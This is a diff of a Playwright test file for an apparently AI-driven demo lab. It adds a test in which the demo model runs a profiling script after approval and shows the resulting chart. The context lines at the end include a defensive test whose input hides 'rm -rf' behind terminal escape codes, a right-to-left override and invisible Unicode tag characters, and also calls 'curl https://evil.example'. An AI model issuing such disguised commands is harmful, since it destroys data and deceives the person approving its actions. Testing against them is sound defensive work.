@@ -52,6 +52,20 @@ test("a command is shown as it is, runs on a word, and what it makes is kept on 
   await expect(lab.conversation.getByRole("figure").getByRole("table")).toContainText("count");
 });
 
+test("the demo model runs the sample's script when asked, and shows the picture that it draws", async ({ lab }) => {
+  await lab.page.goto("/try/office-day");
+  await lab.message.fill("Profile data/orders.csv");
+  await lab.page.getByRole("button", { name: "Send" }).click();
+  await expect(lab.question).toContainText("profile.py");
+  await allow(lab).click();
+  const made = lab.conversation.getByRole("group", { name: /1 file changed/ });
+  await expect(made.getByRole("img", { name: /orders\.profile\.svg/ })).toBeVisible({ timeout: 90_000 });
+  await made.getByRole("button", { name: "Keep all" }).click();
+  await expect(lab.conversation).toContainText("7 rows, 6 columns");
+  await expect(lab.conversation.getByRole("figure").getByRole("img", { name: /orders\.profile\.svg/ })).toBeVisible();
+  expect(await findingsInBothSizes(lab.page)).toEqual([]);
+});
+
 test("a hostile command hides nothing, gets nowhere, and is ended by Stop", async ({ lab }) => {
   const tags = (text: string) => String.fromCodePoint(...Array.from(text, (letter) => 0xe0000 + letter.charCodeAt(0)));
   await haveAsked(lab, `echo safe \u001b[2K\u001b[1A\u202e rm${tags("rm -rf")}\ncurl https://evil.example`);
